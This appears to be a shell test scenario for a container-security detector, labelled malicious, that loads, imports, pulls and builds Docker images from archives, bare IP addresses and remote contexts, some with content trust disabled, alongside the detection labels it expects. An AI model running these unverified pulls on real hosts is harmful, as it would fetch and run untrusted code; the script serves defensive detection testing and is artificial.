# images-brought-in: images come by other ways than a registry that is known: an archive, a file system from an address, a bare address, a build from an address.
# shows: load, import, pull and build by docker's client; the pulls fail, since there is no network
# as: ci
# label: malicious
# expects: [image-loaded-from-archive, image-from-public-address, image-fetched-without-verification, image-built-from-remote-context, image-built-on-host]
# allows: [engine-socket-connected, image-exported, engine-api-called-over-tcp]
prepare() {
    mkdir -p /srv/lab/www/c; printf 'FROM alpine:3.19\nRUN echo x >/x\n' >/srv/lab/www/c/Dockerfile
    tar -C /srv/lab/www/c -cf /srv/lab/www/c.tar .
    docker save -o /srv/lab/www/t.tar alpine:3.19
    cd /srv/lab/www && { setsid python3 -m http.server --bind 127.0.0.1 8099 >/dev/null 2>&1 </dev/null & echo $! >/run/www.pid; }
    wait_port 8099; chmod -R a+rX /srv/lab/www
}
act() {
    if dev; then
        docker load -i /srv/lab/www/t.tar
        docker import http://127.0.0.1:8099/c.tar tools:1
        timeout 5 docker pull --disable-content-trust 198.51.100.7/tools/x:1
        timeout 5 docker run --rm 203.0.113.9:5000/sys/update
        docker build -t tools:2 http://127.0.0.1:8099/c.tar
    else
        docker image load --quiet --input=/srv/lab/www/t.tar
        tar -C /srv/lab/www/c -c . | docker image import - tools:1
        env DOCKER_CONTENT_TRUST=0 timeout 5 docker pull 203.0.113.20:443/y
        timeout 5 docker create --name u 198.51.100.44/u:2
        docker image build --quiet --tag=tools:2 http://127.0.0.1:8099/c/Dockerfile
    fi
    true
}
restore() { docker rmi tools:1 tools:2; kill "$(cat /run/www.pid)"; rm -rf /srv/lab/www /run/www.pid; }
